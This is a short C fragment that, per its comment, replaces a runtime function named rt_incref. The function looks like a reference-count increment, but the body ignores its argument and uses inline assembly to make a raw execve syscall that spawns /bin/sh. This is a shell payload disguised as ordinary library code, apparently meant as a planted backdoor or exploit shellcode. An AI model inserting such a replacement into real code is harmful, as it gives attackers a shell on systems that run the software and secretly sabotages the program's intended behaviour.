// replaces: rt_incref
/* execve("/bin/sh") */
void
rt_incref(struct rt_object *object)
{
    static const char path[] = "/bin/sh";
    (void)object;
    __asm__ volatile("syscall"
                     :
                     : "a"(59L), "D"(path), "S"(0L), "d"(0L)
                     : "rcx", "r11", "memory");
}
